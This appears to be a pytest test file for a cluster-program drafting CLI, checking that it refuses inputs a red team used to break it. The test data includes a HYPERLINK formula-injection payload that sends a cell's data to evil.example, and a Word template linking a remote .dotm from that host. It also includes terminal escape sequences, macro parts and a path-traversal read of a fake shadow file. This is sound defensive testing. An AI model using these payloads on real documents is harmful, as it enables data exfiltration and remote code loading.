"""Trust, round two (issue 14): each class of input the red team broke, through the command line.

Every case asserts the exit code, a located message (`file[:line:col]: ...`), no traceback,
inputs unchanged and no partial or temporary file left behind.
"""

from __future__ import annotations

import csv
import errno
import io
import os
import re
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
import yaml
from openpyxl import load_workbook

from engine.files import atomic
from tests.conftest import EXAMPLES, ROOT
from tests.engine.deliverables.test_questionnaire import filled_workbook, nn_values

# each case runs the CLI on a crafted input (about half a second): the suite of the red team runs
# in CI with the slow tests, so the default suite stays within its 90 s
pytestmark = pytest.mark.slow

NN = EXAMPLES / "nizhny-novgorod.yaml"


def snapshot(folder: Path) -> dict[str, bytes | str]:
    """Every entry under a folder: bytes of files, the target of links, the kind of the rest."""
    out: dict[str, bytes | str] = {}
    for p in sorted(folder.rglob("*")):
        key = str(p.relative_to(folder))
        if p.is_symlink():
            out[key] = "-> " + os.readlink(p)
        elif p.is_file():
            out[key] = p.read_bytes()
        else:
            out[key] = "dir" if p.is_dir() else "special"
    return out


def clean(code: int, stdout: str, stderr: str, expected: int = 2) -> list[str]:
    assert code == expected, (code, stderr)
    assert "Traceback" not in stdout + stderr
    lines = stderr.strip().splitlines()
    assert lines, "no message"
    return lines


def no_temporary_files(folder: Path) -> None:
    assert not [p for p in folder.rglob("*") if p.name.endswith(".tmp")]


def nn_with(tmp_path: Path, name: str = "nn.yaml", **changes: object) -> Path:
    data = yaml.safe_load(NN.read_text("utf-8"))
    data.update(changes)
    path = tmp_path / name
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return path


def nn_text(tmp_path: Path, line: str, name: str = "nn.yaml") -> Path:
    """The example with its cluster_name line replaced by `line` (raw YAML)."""
    text = NN.read_text("utf-8")
    start = text.index("cluster_name:")
    end = text.index("\n", start)
    path = tmp_path / name
    path.write_bytes((text[:start] + line + text[end:]).encode("utf-8"))
    return path


@pytest.fixture
def kb(tmp_path) -> Path:
    root = tmp_path / "kb"
    shutil.copytree(ROOT / "knowledge", root)
    return root


# --- High 2: no command overwrites one of its inputs, --force or not ---------------------------


def test_compare_never_overwrites_its_input(cli, tmp_path):
    old, new = shutil.copy(NN, tmp_path / "old.yaml"), shutil.copy(NN, tmp_path / "new.yaml")
    before = snapshot(tmp_path)
    lines = clean(*cli("compare", old, new, "-o", new, "--force"))
    assert "new.yaml: is an input of this command" in lines[-1]
    assert snapshot(tmp_path) == before


@pytest.mark.parametrize(
    "command",
    [
        ["draft", str(NN), "-o", "{kb}/program.yaml", "--force"],
        ["kb", "docs", "-o", "{kb}/sources.yaml", "--force"],
        ["kb", "export-clips", "-o", "{kb}/rules/diagnosis.yaml", "--force"],
        ["questionnaire", "--format", "yaml", "-o", "{kb}/indicators.yaml", "--force"],
    ],
)
def test_knowledge_files_are_never_overwritten(cli, kb, command):
    before = snapshot(kb)
    args = [a.format(kb=kb) for a in command] + ["--knowledge", str(kb)]
    lines = clean(*cli(*args))
    assert "is an input of this command" in lines[-1]
    assert snapshot(kb) == before


def test_a_hard_link_to_the_input_is_the_input(cli, tmp_path):
    src = shutil.copy(NN, tmp_path / "nn.yaml")
    os.link(src, tmp_path / "alias.md")
    before = snapshot(tmp_path)
    lines = clean(*cli("draft", src, "-o", tmp_path / "alias.md", "--force"))
    assert "alias.md: is an input" in lines[-1]
    assert snapshot(tmp_path) == before


def test_the_word_template_is_never_overwritten(cli, tmp_path):
    template = shutil.copy(ROOT / "templates" / "program.docx", tmp_path / "letterhead.docx")
    before = snapshot(tmp_path)
    code, out, err = cli("draft", NN, "--template", template, "-o", template, "--force")
    assert "is an input" in clean(code, out, err)[-1]
    assert snapshot(tmp_path) == before


def test_batch_never_overwrites_an_input_inside_its_output_folder(cli, tmp_path, knowledge):
    out = tmp_path / "out"
    out.mkdir()
    filled_workbook(knowledge, nn_values()).save(out / "summary.xlsx")
    shutil.copy(NN, out / "nn.yaml")
    before = snapshot(out)
    lines = clean(*cli("batch", out / "summary.xlsx", out / "nn.yaml", "-o", out, "--force"))
    assert "summary.xlsx: is an input of this command" in lines[-1]
    assert snapshot(out) == before


# --- High 3: no-force writes create exclusively ------------------------------------------------


def test_a_second_batch_into_the_same_folder_fails_and_keeps_the_first(cli, tmp_path):
    inputs = [NN, EXAMPLES / "mature-cluster.yaml"]
    out = tmp_path / "out"
    assert cli("batch", *inputs, "-o", out)[0] == 0
    first = snapshot(out)
    lines = clean(*cli("batch", *inputs, "-o", out, "--lang", "en"))
    assert "already exists" in lines[-1]
    assert snapshot(out) == first


def test_a_file_created_by_another_run_after_the_check_is_not_replaced(cli, tmp_path, monkeypatch):
    # the other batch writes the file between our check and our write: link(2) refuses
    real = atomic._create

    def raced(tmp: str, path: Path) -> None:
        if path.name == "nizhny-novgorod.md":
            path.write_text("the other run's program")
        real(tmp, path)

    monkeypatch.setattr(atomic, "_create", raced)
    out = tmp_path / "out"
    lines = clean(*cli("batch", NN, EXAMPLES / "mature-cluster.yaml", "-o", out, "-j", "1"))
    assert "nizhny-novgorod.md: already exists (written by another run" in lines[-1]
    assert (out / "nizhny-novgorod.md").read_text() == "the other run's program"
    no_temporary_files(out)


# --- High 4: Ctrl-C ends a batch -----------------------------------------------------------------


def started_batch(tmp_path: Path, out: Path) -> subprocess.Popen[str]:
    """A batch of 24 copies of the example on two workers, once its first program is written."""
    inputs = tmp_path / "in"
    inputs.mkdir(parents=True, exist_ok=True)
    for i in range(24):
        shutil.copy(NN, inputs / f"c{i:02d}.yaml")
    proc = subprocess.Popen(
        [sys.executable, "-m", "cli", "batch", str(inputs), "-o", str(out), "-j", "2"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        start_new_session=True,
        text=True,
    )
    deadline = time.monotonic() + 60
    while not (out.is_dir() and any(p.suffix == ".md" for p in out.iterdir())):
        assert proc.poll() is None and time.monotonic() < deadline, "the batch did not start"
        time.sleep(0.02)
    return proc


def output_or_fail(proc: subprocess.Popen[str], timeout: float, failure: str) -> str:
    """The batch's stderr once it has ended; the test fails with `failure` if it outlives `timeout`."""
    try:
        return proc.communicate(timeout=timeout)[1]
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.communicate()
        pytest.fail(failure)


def interrupt_paused_batch(tmp_path: Path) -> tuple[int, str, float]:
    """Pause the parent (SIGSTOP), Ctrl-C the whole group, resume: the red team's deadlock."""
    out = tmp_path / f"out-{time.monotonic_ns()}"
    proc = started_batch(tmp_path, out)
    os.kill(proc.pid, signal.SIGSTOP)
    os.killpg(proc.pid, signal.SIGINT)
    time.sleep(0.2)
    os.kill(proc.pid, signal.SIGCONT)
    started = time.monotonic()
    stderr = output_or_fail(proc, 20, "the interrupted batch hung")
    for p in out.iterdir():  # only complete programs, no temporary files
        assert not p.name.endswith(".tmp")
        assert p.read_text("utf-8").startswith("# ")
    return proc.returncode, stderr, time.monotonic() - started


@pytest.mark.slow  # end to end; .ci/run runs it (-m slow)
def test_ctrl_c_ends_a_paused_batch(tmp_path):
    code, stderr, _ = interrupt_paused_batch(tmp_path)
    assert code == 130 and "Traceback" not in stderr and "interrupted" in stderr


@pytest.mark.slow
def test_ctrl_c_ends_a_paused_batch_every_time(tmp_path):
    for _ in range(8):
        code, stderr, took = interrupt_paused_batch(tmp_path)
        assert code == 130 and "Traceback" not in stderr and took < 5


def test_sigkill_of_the_batch_parent_leaves_no_worker_traceback(tmp_path):
    # issue 24: the workers finished their chunk, wrote to the dead parent's pipe and printed
    # BrokenPipeError tracebacks on the terminal
    out = tmp_path / "out"
    proc = started_batch(tmp_path, out)
    os.kill(proc.pid, signal.SIGKILL)  # the parent only: its workers are left to notice
    # stderr closes when the last worker (which shares it) has exited
    stderr = output_or_fail(proc, 30, "the workers outlived their parent")
    assert proc.returncode == -signal.SIGKILL
    assert "Traceback" not in stderr and "Error" not in stderr, stderr


@pytest.mark.slow
def test_sigkill_of_the_batch_parent_leaves_no_worker_traceback_every_time(tmp_path):
    for i in range(3):  # the race (a chunk half drafted when the parent dies) varies by run
        test_sigkill_of_the_batch_parent_leaves_no_worker_traceback(tmp_path / str(i))


# --- High 5: formula injection -------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&B3,"x")', "+1+1", "-2+3", "@SUM(A1:A9)"]


@pytest.mark.slow  # end to end; .ci/run runs it (-m slow)
def test_summary_cells_are_text_never_formulas(cli, tmp_path):
    inputs = [nn_with(tmp_path, f"c{i}.yaml", cluster_name=f) for i, f in enumerate(FORMULAS)]
    out = tmp_path / "out"
    assert cli("batch", *inputs, "-o", out)[0] == 0
    ws = load_workbook(out / "summary.xlsx").worksheets[0]
    names = [row[1] for row in ws.iter_rows(min_row=2)]
    assert [c.value for c in names] == FORMULAS
    assert all(
        c.data_type == "s" for row in ws.iter_rows() for c in row if isinstance(c.value, str)
    )
    rows = list(csv.DictReader(io.StringIO((out / "summary.csv").read_text("utf-8"))))
    assert [r["cluster"] for r in rows] == ["'" + f for f in FORMULAS]


def test_questionnaire_texts_are_text_never_formulas(cli, tmp_path, kb):
    text = (kb / "indicators.yaml").read_text("utf-8")
    (kb / "indicators.yaml").write_text(
        text.replace("unit: {", 'unit: {ru: "=1+1", en: "=1+1"} #{', 1), "utf-8"
    )
    out = tmp_path / "q.xlsx"
    assert cli("questionnaire", "-o", out, "--knowledge", kb)[0] == 0
    wb = load_workbook(out)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert any(c.value == "=1+1" for c in cells)
    assert not [c.coordinate for c in cells if c.data_type == "f"]


# --- High 6: one hostile input does not abort a batch ------------------------------------------


@pytest.mark.slow  # end to end; .ci/run runs it (-m slow)
def test_hostile_inputs_are_reported_and_the_rest_drafted(cli, tmp_path, monkeypatch):
    src = tmp_path / "in"
    src.mkdir()
    shutil.copy(NN, src / "good.yaml")
    shutil.copy(NN, src / ("東" * 80 + ".yaml"))  # 240 bytes of name
    shutil.copy(NN, os.fsencode(src) + b"/caf\xe9.yaml")  # a name that is not UTF-8
    nn_text(src, 'cluster_name: "bad \\ud800"', "surrogate.yaml")
    shutil.copy(NN, src / "full-disk.yaml")
    real = atomic._create

    def full_disk(tmp: str, path: Path) -> None:
        if path.name == "full-disk.md":
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        real(tmp, path)

    monkeypatch.setattr(atomic, "_create", full_disk)
    out = tmp_path / "out"
    code, stdout, stderr = cli("batch", src, "-o", out, "-j", "1")
    lines = clean(code, stdout, stderr, expected=1)
    assert any("surrogate.yaml:" in x and "U+D800" in x for x in lines)
    assert any("full-disk.md: cannot write: No space left on device" in x for x in lines)
    assert "3 of 5 clusters drafted" in lines[-1]
    names = {p.name for p in out.iterdir()}
    assert {"good.md", "summary.csv", "summary.xlsx", "summary.md", "summary.html"} <= names
    assert any(n.startswith("東") and len(n.encode()) <= 130 for n in names)
    assert any(n.startswith("caf") for n in names)
    no_temporary_files(out)
    rows = list(csv.DictReader(io.StringIO((out / "summary.csv").read_text("utf-8"))))
    assert sorted(r["status"] for r in rows) == ["error", "error", "ok", "ok", "ok"]


# --- High 7 and Low: workbooks are read in their range -----------------------------------------


def patch_zip(src: Path, dst: Path, edits: dict[str, bytes | None]) -> Path:
    """A copy of a zip with some parts replaced (bytes), added, or removed (None)."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.filename in edits:
                continue
            zout.writestr(info, zin.read(info.filename))
        for name, data in edits.items():
            if data is not None:
                zout.writestr(name, data)
    return dst


@pytest.fixture
def workbook(tmp_path, knowledge) -> Path:
    path = tmp_path / "filled.xlsx"
    filled_workbook(knowledge, nn_values()).save(path)
    return path


def sheet_xml(path: Path) -> bytes:
    with zipfile.ZipFile(path) as z:
        return z.read("xl/worksheets/sheet1.xml")


def test_a_workbook_declaring_a_huge_range_is_read_in_the_questionnaire_range(
    cli, tmp_path, workbook
):
    xml = sheet_xml(workbook)
    start = xml.index(b"<dimension ref=")
    end = xml.index(b"/>", start) + 2
    huge = xml[:start] + b'<dimension ref="A1:XFD50002"/>' + xml[end:]
    bad = patch_zip(workbook, tmp_path / "huge.xlsx", {"xl/worksheets/sheet1.xml": huge})
    code, stdout, stderr = cli("draft", bad, "--format", "json")
    assert code == 0, stderr
    assert '"cluster-intl/result/2"' in stdout


def test_rows_past_the_cap_are_refused(cli, tmp_path, knowledge):
    from engine.assessment.workbook import MAX_ROWS

    wb = filled_workbook(knowledge, nn_values())
    ws = wb.worksheets[0]
    for r in range(ws.max_row + 1, MAX_ROWS + 3):
        ws.cell(row=r, column=1, value=f"extra_{r}")
    bad = tmp_path / "long.xlsx"
    wb.save(bad)
    lines = clean(*cli("draft", bad, "-o", tmp_path / "p.md"))
    assert any(f"!A{MAX_ROWS + 1}: the questionnaire has more than" in x for x in lines)
    assert len(lines) <= 101 and "more problems not shown" in lines[-1]
    assert not (tmp_path / "p.md").exists()


def test_sheet_xml_that_does_not_parse_is_a_located_problem(cli, tmp_path, workbook):
    bad = patch_zip(workbook, tmp_path / "broken.xlsx", {"xl/worksheets/sheet1.xml": b"<x><y"})
    lines = clean(*cli("draft", bad))
    assert len(lines) == 1 and "broken.xlsx: " in lines[0] and "ParseError" in lines[0]


@pytest.mark.parametrize(
    "part",
    [
        ("xl/macrosheets/sheet2.xml", b"<xm:macrosheet/>"),
        ("xl/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"),
        ("xl/activeX/activeX1.xml", b"<ax:ocx/>"),
        ("xl/vbaProject.bin", b"\x00"),
        # issue 24: these drafted although macros are refused
        ("xl/macros/module1.bin", b"\x00"),
        ("customUI/customUI.xml", b"<customUI/>"),
        ("customUI/customUI14.xml", b"<customUI/>"),
        ("xl/vbaProjectSignature.bin", b"\x00"),
    ],
)
def test_every_kind_of_macro_is_refused(cli, tmp_path, workbook, part):
    bad = patch_zip(workbook, tmp_path / "macro.xlsx", {part[0]: part[1]})
    before = bad.read_bytes()
    lines = clean(*cli("draft", bad))
    assert lines == [f"{lines[0].split(':')[0]}: " + lines[0].split(": ", 1)[1]]
    assert "macros or embedded objects" in lines[0] and part[0] in lines[0]
    assert bad.read_bytes() == before


UI_REL = (
    b'<Relationship Id="rIdUI" Target="ribbon/ui.xml" '
    b'Type="http://schemas.microsoft.com/office/2007/relationships/ui/extensibility"/>'
)


def test_a_ribbon_part_under_any_name_is_refused_by_its_relationship(cli, tmp_path, workbook):
    # customUI drafted although macros are refused: its part may have any name, its relationship
    # type says what it is
    with zipfile.ZipFile(workbook) as z:
        rels = z.read("_rels/.rels")
    rels = rels.replace(b"</Relationships>", UI_REL + b"</Relationships>")
    bad = patch_zip(
        workbook,
        tmp_path / "ribbon.xlsx",
        {"_rels/.rels": rels, "ribbon/ui.xml": b'<customUI><button onAction="Run"/></customUI>'},
    )
    out = tmp_path / "p.md"
    lines = clean(*cli("draft", bad, "-o", out))
    assert len(lines) == 1 and lines[0].endswith(
        "ribbon.xlsx: the workbook contains macros or embedded objects (VBA, Excel 4 macro "
        "sheets, OLE, ActiveX or a custom ribbon); they are never run: save it as a plain .xlsx "
        "without them "
        "(_rels/.rels)"
    )
    assert not out.exists()


def test_a_word_template_with_a_ribbon_is_refused(cli, tmp_path):
    from engine.resources import default_template

    bad = patch_zip(default_template(), tmp_path / "t.docx", {"customUI/customUI14.xml": b"<x/>"})
    out = tmp_path / "p.docx"
    lines = clean(*cli("draft", NN, "--template", bad, "-o", out))
    assert len(lines) == 1 and lines[0].endswith(
        "t.docx: the template contains macros or embedded objects; save it as a plain .docx "
        "without them (customUI/customUI14.xml)"
    )
    assert not out.exists()


def test_excel_error_values_are_not_answers(cli, tmp_path, workbook):
    xml = sheet_xml(workbook)
    # the answer of row 2 becomes the error value #REF!
    row = xml.index(b'<c r="G2"')
    end = xml.index(b"</c>", row) + 4  # G2 holds the cluster's name
    err = xml[:row] + b'<c r="G2" t="e"><v>#REF!</v></c>' + xml[end:]
    bad = patch_zip(workbook, tmp_path / "ref.xlsx", {"xl/worksheets/sheet1.xml": err})
    lines = clean(*cli("draft", bad))
    assert any("!G2: the cell holds the error value #REF!" in x for x in lines)


@pytest.mark.slow  # end to end; .ci/run runs it (-m slow)
def test_hidden_sheets_are_not_drafted_by_batch(cli, tmp_path, knowledge):
    wb = filled_workbook(knowledge, nn_values())
    hidden = wb.copy_worksheet(wb.worksheets[0])
    hidden.title = "Hidden"
    hidden.sheet_state = "hidden"
    path = tmp_path / "region.xlsx"
    wb.save(path)
    out = tmp_path / "out"
    code, _, stderr = cli("batch", path, "-o", out)
    assert code == 0, stderr
    assert "1 of 1 clusters drafted" in stderr
    assert not [p for p in out.iterdir() if "Hidden" in p.name]


# --- Medium: tracebacks that are now located refusals ------------------------------------------


@pytest.mark.parametrize("fmt", ["md", "html", "json", "docx"])
@pytest.mark.parametrize(
    # issue 24: the noncharacters "\\uffff" and "\\ufdd0" passed into documents
    "escape",
    ["\\ud800", "\\e]0;pwned\\a", "\\0", "\\x7f", "\\x85", "\\e[2J", "\\uffff", "\\ufdd0"],
)
def test_escapes_decoding_to_control_characters_are_refused(cli, tmp_path, escape, fmt):
    bad = nn_text(tmp_path, f'cluster_name: "A {escape} B"')
    out = tmp_path / f"p.{fmt}"
    code, stdout, stderr = cli("draft", bad, "-o", out)
    lines = clean(code, stdout, stderr)
    assert Path(lines[0].split(":")[0]).name == "nn.yaml"
    assert ": cluster_name: character U+" in lines[0]
    assert "\x1b" not in stdout + stderr
    assert not out.exists()
    no_temporary_files(tmp_path)


@pytest.mark.parametrize("command", [["assess"], ["why", "co_partner_cluster"], ["kb-check"]])
def test_a_lone_surrogate_is_refused_by_every_command(cli, tmp_path, kb, command):
    if command == ["kb-check"]:
        rules = kb / "rules" / "diagnosis.yaml"
        rtext = rules.read_text("utf-8")
        rules.write_text(rtext.replace('en: "Science is a strong direction"', 'en: "\\ud800"'))
        code, stdout, stderr = cli("kb", "check", "--knowledge", kb)
        assert code == 1 and "Traceback" not in stdout + stderr
        assert "diagnosis.yaml:" in stdout and "U+D800" in stdout
        return
    bad = nn_text(tmp_path, 'cluster_name: "\\ud800"')
    lines = clean(*cli(command[0], bad, *command[1:]))
    assert "nn.yaml:" in lines[0] and "U+D800" in lines[0]


@pytest.mark.parametrize("value", ["9" * 400, "9" * 400 + ".5", "1e400", ".nan", "-.inf"])
def test_huge_and_non_finite_numbers_are_refused(cli, tmp_path, value):
    text = NN.read_text("utf-8")
    start = text.index("num_members_sme:")
    end = text.index("\n", start)
    bad = tmp_path / "nn.yaml"
    bad.write_text(text[:start] + f"num_members_sme: {value}" + text[end:], "utf-8")
    lines = clean(*cli("draft", bad))
    assert "nn.yaml:" in lines[0] and "num_members_sme" in lines[0]


def test_a_float_indicator_given_400_digits_is_refused(cli, tmp_path, knowledge):
    floats = [i.id for i in knowledge.indicators.indicators if i.type == "float"]
    assert floats
    bad = nn_with(tmp_path, **{floats[0]: 10**400})
    lines = clean(*cli("draft", bad))
    assert "too large" in lines[0] and floats[0] in lines[0]


def test_a_set_value_or_file_name_that_is_not_utf8(cli, tmp_path):
    lines = clean(*cli("what-if", NN, "--set", "cluster_name=caf\udce9"))
    assert lines[0].startswith("--set")
    bad = os.fsencode(tmp_path) + b"/caf\xe9.yaml"
    Path(os.fsdecode(bad)).write_text("cluster_name: [\n", "utf-8")
    lines = clean(*cli("draft", os.fsdecode(bad)))
    assert "caf\\udce9.yaml:" in lines[0] and "YAML syntax error" in lines[0]


@pytest.mark.parametrize("drop", ["w:sectPr", "w:pgSz", "w:pgMar"])
def test_a_template_without_page_setup_is_refused(cli, tmp_path, drop):
    import re

    src = ROOT / "templates" / "program.docx"
    with zipfile.ZipFile(src) as z:
        xml = z.read("word/document.xml").decode("utf-8")
    tag = drop.split(":")[1]
    pattern = r"<w:sectPr\b.*?</w:sectPr>" if tag == "sectPr" else rf"<w:{tag}\b[^>]*/>"
    xml, n = re.subn(pattern, "", xml, flags=re.S)
    assert n
    bad = patch_zip(src, tmp_path / "t.docx", {"word/document.xml": xml.encode("utf-8")})
    out = tmp_path / "p.docx"
    lines = clean(*cli("draft", NN, "--template", bad, "-o", out))
    assert lines[0].startswith("t.docx: ") or "t.docx" in lines[0]
    assert drop in lines[0] or "page setup" in lines[0]
    assert not out.exists()


def test_output_failures_are_messages_not_tracebacks(cli, tmp_path, monkeypatch):
    long_name = tmp_path / ("p" * 300 + ".md")
    lines = clean(*cli("draft", NN, "-o", long_name))
    assert "cannot write: File name too long" in lines[-1]
    target = tmp_path / "program.md"
    target.write_text("previous version")

    def full(*_a, **_k):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(atomic.os, "fsync", full)
    lines = clean(*cli("draft", NN, "-o", target, "--force"))
    assert lines[-1].endswith("program.md: cannot write: No space left on device")
    assert target.read_text() == "previous version"
    no_temporary_files(tmp_path)


def test_knowledge_symlinks_and_fifos_are_refused_without_reading(cli, tmp_path, kb):
    (kb / "rules" / "zero.yaml").symlink_to("/dev/zero")
    os.mkfifo(kb / "rules" / "pipe.yaml")
    code, stdout, stderr = cli("kb", "check", "--knowledge", kb)
    assert code == 1 and "Traceback" not in stdout + stderr
    assert "zero.yaml: error: is a symbolic link" in stdout
    assert "pipe.yaml: error: is not a regular file" in stdout
    lines = clean(*cli("draft", NN, "--knowledge", kb))
    assert any("zero.yaml: is a symbolic link" in x for x in lines)


def test_scenario_paths_stay_inside_the_knowledge_base(cli, tmp_path, kb):
    shutil.copytree(EXAMPLES, tmp_path / "examples")  # the shipped scenarios' ../../examples
    secret = tmp_path / "shadow.yaml"
    secret.write_text("root: $6$SECRET-HASH\n", "utf-8")
    (kb / "scenarios" / "linked.yaml").symlink_to(secret)
    (kb / "scenarios" / "steal.yaml").write_text(
        "name: steal\nassessment: ../../shadow.yaml\nexpect: {findings: {present: [level.low]}}\n",
        "utf-8",
    )
    code, stdout, stderr = cli("kb", "test", "--knowledge", kb)
    assert code == 2 and "Traceback" not in stdout + stderr
    assert "SECRET-HASH" not in stdout + stderr
    assert "steal.yaml:2:13: assessment: the assessment path leads outside" in stderr
    assert "linked.yaml: is a symbolic link" in stderr


@pytest.mark.parametrize("kind", ["fifo", "device", "stdout link", "dangling link"])
def test_non_regular_outputs_are_refused(cli, tmp_path, kind):
    out = tmp_path / "out.md"
    if kind == "fifo":
        os.mkfifo(out)
    elif kind == "device":
        out = Path("/dev/null")
    elif kind == "stdout link":
        out.symlink_to("/proc/self/fd/1")
    else:
        out.symlink_to(tmp_path / "nowhere.md")
    force = ["--force"] if kind != "dangling link" else []
    before = snapshot(tmp_path)
    lines = clean(*cli("draft", NN, "-o", out, *force))
    assert "not a regular file" in lines[-1] or "symbolic link" in lines[-1]
    assert snapshot(tmp_path) == before


def test_a_template_loses_its_external_relationships(cli, tmp_path):
    src = ROOT / "templates" / "program.docx"
    with zipfile.ZipFile(src) as z:
        rels = (
            z.read("word/_rels/settings.xml.rels")
            if "word/_rels/settings.xml.rels" in z.namelist()
            else None
        )
        settings = z.read("word/settings.xml").decode("utf-8")
    assert rels is None
    rel = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    settings = settings.replace(
        "<w:zoom",
        '<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships" r:id="rId99"/><w:zoom',
        1,
    )
    bad = patch_zip(
        src,
        tmp_path / "t.docx",
        {"word/_rels/settings.xml.rels": rel.encode(), "word/settings.xml": settings.encode()},
    )
    out = tmp_path / "p.docx"
    code, _, stderr = cli("draft", NN, "--template", bad, "-o", out)
    assert code == 0, stderr
    with zipfile.ZipFile(out) as z:
        text = b"".join(z.read(n) for n in z.namelist() if n.endswith((".rels", ".xml")))
    assert b"evil.example" not in text and b"attachedTemplate" not in text


def test_a_template_with_a_huge_part_is_refused_before_reading(cli, tmp_path):
    src = ROOT / "templates" / "program.docx"
    bad = patch_zip(src, tmp_path / "t.docx", {"word/media/big.bin": b"\0" * (101 * 2**20)})
    lines = clean(*cli("draft", NN, "--template", bad, "-o", tmp_path / "p.docx"))
    assert "unpacks to" in lines[0] and "t.docx" in lines[0]


@pytest.mark.slow  # end to end; .ci/run runs it (-m slow)
def test_a_rule_whose_branches_explode_is_refused(cli, tmp_path, kb):
    anys = "\n".join(
        f"      - any: [{{indicator: direction_export, op: ge, value: {i % 4}}}, "
        f"{{indicator: direction_science, op: le, value: {i % 4}}}]"
        for i in range(12)
    )
    (kb / "rules" / "explode.yaml").write_text(
        "rules:\n  - id: explode\n    title: {en: Boom, ru: Бум}\n    when:\n"
        f"{anys}\n    then: {{finding: strength.science}}\n    sources: [p_methodology]\n",
        "utf-8",
    )
    code, stdout, stderr = cli("kb", "check", "--knowledge", kb)
    assert code == 1 and "Traceback" not in stdout + stderr
    assert "explode.yaml:5:7: error: rules[0].when: the condition expands to 4096" in stdout
    lines = clean(*cli("draft", NN, "--knowledge", kb))
    assert any("explode.yaml:5:7: rules[0].when: the condition expands to" in x for x in lines)


@pytest.mark.parametrize(
    "body",
    [
        "".join(f"k{i}: v\n" for i in range(150_000)),
        "region_name: [" + "1," * 2_000_000 + "1]\n",
    ],
)
def test_many_keys_or_items_are_refused_before_parsing(cli, tmp_path, body):
    bad = tmp_path / "many.yaml"
    bad.write_text("cluster_name: X\n" + body, "utf-8")
    lines = clean(*cli("draft", bad))
    assert lines == [lines[0]] and "many.yaml: too many values: " in lines[0]
    assert "(blank and comment lines not counted); the limit is 100000" in lines[0]


# --- Low -----------------------------------------------------------------------------------------


def test_yaml_is_read_with_the_core_schema():
    from engine.files.strict_yaml import load_yaml_text

    data = load_yaml_text("a: 010\nb: 33:34\nc: 1e5\nd: NO\ne: yes\nf: 2014-01-01\n", "x").data
    assert data == {"a": 10, "b": "33:34", "c": 100000.0, "d": "NO", "e": "yes", "f": "2014-01-01"}


def test_a_blank_only_required_name_is_missing(cli, tmp_path):
    bad = nn_with(tmp_path, cluster_name="   ")
    lines = clean(*cli("draft", bad))
    assert any("missing required indicator 'cluster_name'" in x for x in lines)


def test_what_if_cannot_blank_a_required_field(cli):
    lines = clean(*cli("what-if", NN, "--set", "cluster_name="))
    assert lines == ["--set: cluster_name: 'cluster_name' is required; it cannot be blank"]


def test_problems_are_capped_for_set_and_kb_check(cli, kb):
    sets = [f"--set=nope_{i}=1" for i in range(150)]
    lines = clean(*cli("what-if", NN, *sets))
    assert len(lines) == 101 and "50 more problems not shown" in lines[-1]
    (kb / "rules" / "many.yaml").write_text(
        "rules:\n"
        + "".join(
            f"  - id: r{i}\n    title: {{en: R, ru: R}}\n"
            f"    when: [{{indicator: nope_{i}, op: ge, value: 1}}]\n"
            "    then: {finding: strength.science}\n    sources: [p_methodology]\n"
            for i in range(150)
        ),
        "utf-8",
    )
    code, stdout, _ = cli("kb", "check", "--knowledge", kb)
    lines = stdout.strip().splitlines()
    assert code == 1 and "more problems not shown" in lines[100]
    # what may follow from them is folded below, capped as well (issue 23)
    folded = lines[101:]
    assert len(folded) <= 12 and all(x.startswith("    ") for x in folded[1:])


def test_kb_check_refuses_a_nan_threshold(cli, kb):
    rules = kb / "rules" / "diagnosis.yaml"
    text = rules.read_text("utf-8")
    assert re.search(r"\{indicator: \w+, op: ge, value: \d+\}", text)  # the fixture's anchor
    rules.write_text(
        re.sub(r"(\{indicator: \w+, op: ge, value: )\d+\}", r"\1.nan}", text, count=1),
        "utf-8",
    )
    code, stdout, stderr = cli("kb", "check", "--knowledge", kb)
    assert code == 1 and "Traceback" not in stdout + stderr
    assert "diagnosis.yaml:" in stdout and "'.nan' is not a finite number" in stdout


def test_the_knowledge_memo_sees_an_edit_that_keeps_size_and_mtime(kb):
    from engine import api

    first = api.Session(kb).knowledge
    path = kb / "recommendations.yaml"
    st = path.stat()
    title = first.recommendation["org_intl_working_group"].title.en
    text = path.read_text("utf-8")
    edited = text.replace(title, title[::-1], 1)
    assert len(edited.encode()) == len(text.encode())
    path.write_text(edited, "utf-8")
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))
    second = api.Session(kb).knowledge
    assert second.recommendation["org_intl_working_group"].title.en == title[::-1]
